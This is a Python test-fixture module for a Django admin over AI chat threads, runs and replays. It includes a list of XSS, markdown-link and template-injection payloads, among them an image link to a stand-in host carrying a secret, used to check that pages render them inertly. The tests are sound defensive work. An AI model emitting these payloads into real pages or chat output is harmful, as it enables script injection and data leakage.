"""Conversations that the tests of the pages look at."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

from django.contrib.auth import get_user_model
from django.test import Client

from ai import tenancy
from ai.models import ChatThread, Message, Run, Tenant
from tests.factories import staff, thread

NOW = datetime(2026, 5, 4, 12, 0, tzinfo=UTC)

EVERYTHING = (
    "view_chatthread",
    "change_chatthread",
    "delete_chatthread",
    "retitle_chatthread",
    "add_chatthread",
    "view_run",
    "replay_run",
    "cancel_run",
    "add_feedback",
    "view_datasource",
    "view_message",
    "view_job",
)

#: Markup and tricks that must never do anything.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<!-- hidden --><b>bold</b>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "<javascript:alert(1)>",
    "[x](/admin/logout/)",
    "[x](//evil.example/)",
    "![pixel](https://evil.example/p.png?secret=1)",
    '![a](https://evil.example/" onerror="alert(1))',
    "![x][ref]\n\n[ref]: https://evil.example/r.png",
    '[a](https://evil.example "onmouseover=alert(1)")',
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a\u202egnp.exe",
    "{{ 7*7 }} {% now 'Y' %} ${7*7}",
    '" onfocus="alert(1)" autofocus="',
    "</textarea></title></script><script>alert(1)</script>",
)


def signed_in(user: Any) -> Client:
    """A browser in which somebody is signed in."""
    client = Client()
    client.force_login(user)
    return client


def somebody(kind: str, *tenants: Tenant) -> Any:
    """A "member" of the tenants' staff who may do everything here, or a "superuser"."""
    if kind == "member":
        return staff(*EVERYTHING, tenants=tenants)
    return get_user_model().objects.create(username="root", is_staff=True, is_superuser=True)


def operator(tenant: Tenant, *permissions: str) -> Client:
    """A member of the tenant's staff with these permissions, signed in."""
    return signed_in(staff(*permissions, tenants=(tenant,)))


def answered(tenant: Tenant, **values: Any) -> ChatThread:
    """A thread with a question and an answer."""
    question = {"role": "user", "content": "Where is my parcel?"}
    return thread(tenant, question, {"role": "assistant", "content": "It is in Lyon."}, **values)


def ask_and_replay(tenant: Tenant, *texts: str) -> tuple[ChatThread, Run, list[Run]]:
    """A thread whose answer was made by a run, and replays that answered `texts`."""
    made = answered(tenant)
    ended: dict[str, Any] = {"tenant_id": tenant.pk, "thread_id": str(made.pk), "status": "completed", "ended_at": NOW}
    with tenancy.scope(tenant.pk):
        original = Run.objects.queue(Run(**ended, model="first-model", history_until=1, created=NOW))
        answer = Message.objects.list_thread_messages(made.pk).order_by("-sequence")[:1].get()
        Message.objects.filter(pk=answer.pk).update(run_id=str(original.pk))
        group = {"replay_of": original.pk, "replay_of_thread": made.pk, "replay_from": 2, "replay_to": 2}
        replays = [
            Run(
                **ended,
                **group,
                model=f"model-{number}",
                history_until=1,
                output=[{"role": "assistant", "content": text}],
                created=NOW + timedelta(seconds=number + 1),
            )
            for number, text in enumerate(texts)
        ]
        Run.objects.queue_replays(replays)
    return made, original, replays


@contextmanager
def same_rows(tenant: Tenant) -> Iterator[None]:
    """The threads, messages and runs are the same afterwards."""
    with tenancy.scope(tenant.pk):
        before = _rows()
        yield
        assert _rows() == before


def _rows() -> list[Any]:
    return [list(model.objects.order_by("pk").values()) for model in (ChatThread, Message, Run)]
